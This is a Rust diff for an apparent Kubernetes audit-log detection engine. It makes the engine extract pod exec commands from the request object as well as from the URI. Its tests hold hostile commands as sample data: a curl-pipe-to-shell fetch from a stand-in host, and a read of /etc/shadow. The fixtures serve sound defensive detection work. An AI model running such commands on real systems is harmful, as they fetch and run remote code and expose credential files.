@@ -143,6 +143,24 @@ pub fn exec_command(uri: &str) -> String {
         .join(" ")
 }
 
+/// The command of an exec request: the requestURI's `command=` parameters, else the request
+/// object's `command` (AKS and plain events may carry a `PodExecOptions`; GKE's `protoPayload.request`).
+pub fn exec_command_of(e: &Ev) -> String {
+    let from_uri = exec_command(&e.event().request_uri);
+    if !from_uri.is_empty() {
+        return from_uri;
+    }
+    match e.request().and_then(|r| r.get("command")) {
+        Some(Value::Array(parts)) => parts
+            .iter()
+            .filter_map(Value::as_str)
+            .collect::<Vec<_>>()
+            .join(" "),
+        Some(Value::String(s)) => s.clone(),
+        _ => String::new(),
+    }
+}
+
 fn percent_decode(s: &str) -> String {
     let b = s.as_bytes();
     let mut out = Vec::with_capacity(b.len());
@@ -397,9 +415,7 @@ pub fn register(engine: &mut Engine, lists: Arc<Lists>, state: Arc<super::state_
     engine.register_fn("role_rules", |e: &mut Ev| {
         json_dyn(e.request().and_then(|r| r.get("rules")))
     });
-    engine.register_fn("exec_command", |e: &mut Ev| {
-        exec_command(&e.event().request_uri)
-    });
+    engine.register_fn("exec_command", |e: &mut Ev| exec_command_of(e));
     // Lists from config, so users tune without editing scripts; a cluster's own entries extend them.
     let l = lists.clone();
     engine.register_fn("in_list", move |name: &str, value: &str| {
@@ -476,6 +492,23 @@ mod tests {
         let uri = "/api/v1/namespaces/kube-system/pods/etcd-0/exec?command=sh&command=-c&command=curl+http%3A%2F%2Fx%2Fy+%7C+sh&container=etcd&stdin=true";
         assert_eq!(exec_command(uri), "sh -c curl http://x/y | sh");
         assert_eq!(exec_command("/api/v1/pods"), "");
+    }
+
+    #[test]
+    fn falls_back_to_the_request_objects_command() {
+        let line = serde_json::json!({
+            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "auditID": "x",
+            "stage": "ResponseComplete", "verb": "create",
+            "requestURI": "/api/v1/namespaces/web/pods/api-0/exec",
+            "user": {"username": "alice@example.com"},
+            "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "web", "name": "api-0"},
+            "requestObject": {"kind": "PodExecOptions", "apiVersion": "v1", "command": ["sh", "-c", "cat /etc/shadow"], "stdin": true}
+        })
+        .to_string();
+        let ev = crate::event::decode_record(line.as_bytes(), &Default::default())
+            .events
+            .remove(0);
+        assert_eq!(exec_command_of(&Ev::new(ev)), "sh -c cat /etc/shadow");
     }
 
     #[test]
